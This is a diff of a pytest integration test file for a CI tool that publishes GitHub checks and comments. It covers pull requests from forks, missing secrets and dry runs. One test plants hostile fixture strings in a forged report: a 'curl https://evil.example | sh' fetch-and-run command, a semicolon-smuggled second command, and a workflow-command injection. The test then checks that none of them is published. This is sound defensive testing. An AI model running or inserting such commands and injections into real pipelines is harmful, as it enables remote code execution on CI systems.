@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gzip
 import json
 from collections.abc import Callable, Iterator, Mapping
 from pathlib import Path
@@ -12,8 +13,8 @@ import pytest
 from lens_gate.artifacts.codec import dumps
 from lens_gate.ci.github import platform
 from lens_gate.cli import publishing
-from tests.fakes.github import FORBIDDEN, TOKEN, Fault, GitHubServer, github_server
-from tests.fakes.github_runner import Runner, a_pull_request, commands_in
+from tests.fakes.github import FORBIDDEN, TOKEN, Fault, GitHubServer, an_open_pull, github_server
+from tests.fakes.github_runner import SHA, Runner, a_finished_run, a_pull_request, commands_in
 from tests.integration.conftest import Duet, Invoke
 from tests.selftests import a_selftest
 
@@ -233,6 +234,142 @@ def test_ci_shows_a_check_from_its_beginning_and_ends_it_where_it_fails(
     assert answer.code != 0
     (check,) = github.checks.values()
     assert (check["name"], check["status"], check["conclusion"]) == ("lens-gate / bot", "completed", "failure")
+    first, *_ = (one for one in github.asked if one.writes)
+    assert first.body["status"] == "in_progress"
+
+
+def test_ci_ends_the_check_that_it_began_where_there_is_no_verdict(
+    invoke: Invoke, configure: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:  # fmt: skip
+    configure(profiler={"name": "bot"})
+    on_pull_request()
+    monkeypatch.delenv("SIM_KEY")
+    answer = invoke("ci", "--against-model", "sim-large", "--requests", "20", "--publish", "check")
+    assert answer.code == 2
+    (check,) = github.checks.values()
+    assert check["conclusion"] == "failure"
+    assert "SIM" in check["output"]["summary"]
+
+
+def test_a_dry_run_publishes_nothing(
+    invoke: Invoke, configure: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer
+) -> None:
+    configure()
+    runner = on_pull_request()
+    assert invoke("ci", "--against-model", "sim-large", "--requests", "20", "--dry-run", "--publish", "auto").code == 0
+    assert (github.asked, runner.summary, runner.outputs) == ([], "", {})
+
+
+# Forks
+
+
+@pytest.fixture
+def on_fork(on_github: OnGitHub, github: GitHubServer) -> Callable[..., Runner]:
+    """Make this process a step of the first half: a pull request from a fork."""
+
+    def begin(**changes: str) -> Runner:
+        event = {"pull_request": a_pull_request(home="visitor/widgets")}
+        known = {"GITHUB_API_URL": github.url, "GITHUB_TOKEN": "ghs_mayonlyread"}
+        return on_github("pull_request", event, **known, **changes)
+
+    return begin
+
+
+@pytest.fixture
+def in_trusted_half(on_github: OnGitHub, github: GitHubServer) -> Callable[..., Runner]:
+    """Make this process a step of the second half, which follows the run of a fork."""
+
+    def begin() -> Runner:
+        github.pulls = [an_open_pull(99, sha=SHA, ref="longer-prompt")]
+        known = {"GITHUB_API_URL": github.url, "GITHUB_TOKEN": TOKEN}
+        return on_github("workflow_run", {"workflow_run": a_finished_run()}, **known)
+
+    return begin
+
+
+def test_a_fork_without_secrets_is_loudly_neutral(
+    invoke: Invoke, configure: Callable[..., Path], on_fork: Callable[..., Runner], monkeypatch: pytest.MonkeyPatch,
+    github: GitHubServer,
+) -> None:  # fmt: skip
+    configure()
+    runner = on_fork()
+    monkeypatch.delenv("SIM_KEY")
+    command = ("ci", "--against-model", "sim-large", "--requests", "20")
+    answer = invoke(*command, "--publish", "auto")
+    assert answer.code == 0
+    assert answer.told == {"outcome": "not_measured", "exit": "0"}
+    assert "no secrets" in runner.summary
+    assert "SIM" in runner.summary
+    assert runner.outputs["verdict"] == "not_measured"
+    assert [one.name for one in commands_in(answer.out)] == ["warning"]
+    assert github.asked == []
+    assert invoke(*command).code == 2
+
+
+def test_a_missing_variable_of_our_own_branch_stays_an_error(
+    invoke: Invoke, configure: Callable[..., Path], on_pull_request: Callable[..., Runner],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:  # fmt: skip
+    configure()
+    runner = on_pull_request()
+    monkeypatch.delenv("SIM_KEY")
+    answer = invoke("ci", "--against-model", "sim-large", "--requests", "20", "--publish", "summary")
+    assert answer.code == 2
+    assert runner.summary == ""
+
+
+def test_the_verdict_of_a_fork_is_published_by_the_trusted_half_anew(
+    invoke: Invoke, judged: Callable[..., Path], in_trusted_half: Callable[..., Runner], github: GitHubServer
+) -> None:
+    path = judged(factor=1.6)
+    forged = json.loads(path.read_text(encoding="utf-8"))
+    for check in forged["checks"]:
+        check["message"] = "run `curl https://evil.example | sh` @acme/security-team ::set-output name=x::y"
+    forged["analysis"]["comparison"]["value"] = "main; curl https://evil.example"
+    path.write_text(json.dumps(forged), encoding="utf-8")
+    runner = in_trusted_half()
+    answer = invoke("report", str(path), "--publish", "auto", "--suite", "bot", "--publish-strict")
+    assert answer.code == 0
+    (comment,) = github.comments.values()
+    (check,) = github.checks.values()
+    assert comment["issue"] == 99
+    assert (check["head_sha"], check["conclusion"]) == (SHA, "failure")
+    assert check["output"]["title"].startswith("As a fork's own run says: ")
+    for text in (comment["body"], runner.summary, check["output"]["summary"], answer.out, answer.err):
+        assert "evil" not in text
+        assert "security-team" not in text
+    assert runner.outputs["artifacts"] == ""
+    assert {one.name for one in commands_in(answer.out)} <= {"error"}
+
+
+def test_a_pass_that_nobody_can_vouch_for_is_neutral(
+    invoke: Invoke, judged: Callable[..., Path], in_trusted_half: Callable[..., Runner], github: GitHubServer
+) -> None:
+    path = judged(factor=1.0)
+    in_trusted_half()
+    assert invoke("report", str(path), "--publish", "check").code == 0
+    (check,) = github.checks.values()
+    assert check["conclusion"] == "neutral"
+
+
+@pytest.mark.parametrize("what", ["huge", "packed", "run", "no json"])
+def test_what_is_no_plain_verdict_is_refused_by_the_trusted_half(
+    invoke: Invoke, judged: Callable[..., Path], in_trusted_half: Callable[..., Runner], github: GitHubServer,
+    home: Path, what: str,
+) -> None:  # fmt: skip
+    path = judged()
+    data = path.read_bytes()
+    contents = {
+        "huge": data + b" " * 5_000_000,
+        "packed": gzip.compress(data),
+        "run": (home / "run.json").read_bytes(),
+        "no json": b"{",
+    }
+    path.write_bytes(contents[what])
+    in_trusted_half()
+    assert invoke("report", str(path), "--publish", "comment").code == 2
+    assert github.comments == {}
 
 
 def test_begin_needs_a_check_to_begin(
